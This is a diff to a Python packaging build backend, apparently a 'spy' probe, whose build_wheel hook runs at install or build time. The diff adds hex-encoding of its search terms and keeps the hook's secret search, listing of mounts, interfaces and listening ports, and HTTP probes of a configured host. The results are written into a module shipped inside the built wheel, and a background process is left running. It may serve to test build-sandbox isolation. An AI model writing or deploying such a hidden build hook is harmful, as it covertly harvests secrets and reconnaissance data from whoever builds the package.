@@ -43,9 +43,13 @@ def ports():
     return sorted(found)
 
 
-def ask(port, path):
+def interfaces():
+    return sorted(line.split(":")[0].strip() for line in open("/proc/net/dev").read().splitlines()[2:])
+
+
+def ask(host, port, path):
     try:
-        with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
+        with socket.create_connection((host, port), timeout=2) as s:
             s.sendall(f"GET {path} HTTP/1.0\r\nHost: quatrain\r\n\r\n".encode())
             answer = b""
             while chunk := s.recv(1 << 16):
@@ -81,11 +85,12 @@ def spoil(wheel):
 def build_wheel(folder, config_settings=None, metadata_directory=None):
     plan = json.loads(pathlib.Path("spy.json").read_text())
     subprocess.Popen(["sleep", "3600"])  # it keeps the output open
+    words, planted = ([bytes.fromhex(w).decode() for w in plan[k]] for k in ("words", "planted"))
     seen = {
-        "secrets": secrets(plan["words"]), "planted": secrets(["planted-for-the-spy"]),
-        "ports": ports(), "mounts": mounts(), "interfaces": sorted(os.listdir("/sys/class/net")), "spoiled": spoil(plan["wheel"]),
+        "secrets": secrets(words), "planted": secrets(planted), "mounts": mounts(), "interfaces": interfaces(),
+        "spoiled": spoil(plan["wheel"]), "answers": {p: ask(plan["host"], plan["port"], p) for p in plan["paths"]}, "listening": [],
     }
-    seen["answers"] = {p: ask(plan["port"], p) for p in plan["paths"]}
-    seen["private"] = [p for p in seen["ports"] for path in plan["paths"] if "private-text" in ask(p, path)]
+    if seen["interfaces"] == ["lo"]:  # else these are the builder's own, or a whole network's
+        seen["listening"] = ports()
     pathlib.Path(plan["name"] + ".py").write_text("seen = " + json.dumps(seen) + "\n")
     return backend.build_wheel(folder)
